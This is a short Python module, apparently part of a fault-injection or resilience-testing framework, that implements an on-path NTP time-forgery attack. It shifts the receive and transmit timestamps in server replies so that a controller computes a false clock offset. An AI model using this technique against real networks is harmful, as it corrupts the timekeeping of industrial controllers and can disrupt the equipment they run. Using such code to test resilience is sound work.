"""Time forgery: the answers of the NTP server are moved on their way, and with them a controller's clock."""

import struct

from coldaisle_injector.catalogue import OnPath

_STAMPS = struct.Struct("!QQ")
_RECEIVED = 32
"""Where receive and transmit timestamp stand in an NTP packet (RFC 5905, figure 8): 64 bits each, 32 of them after the point."""


class Attack(OnPath):
    """Moves the server's times, so that the unit computes an offset that is not there."""

    def on_answer(self, slot: int, datagram: bytes) -> bytes:
        """Move the answers to the queries the plan names."""
        act = self.acts.get((slot, 0))
        if act is None or len(datagram) < _RECEIVED + _STAMPS.size:
            return datagram
        moved = [stamp + round(act.amount * 2**32) for stamp in _STAMPS.unpack_from(datagram, _RECEIVED)]
        stamps = _STAMPS.pack(*(stamp % 2**64 for stamp in moved))
        return datagram[:_RECEIVED] + stamps + datagram[_RECEIVED + _STAMPS.size :]
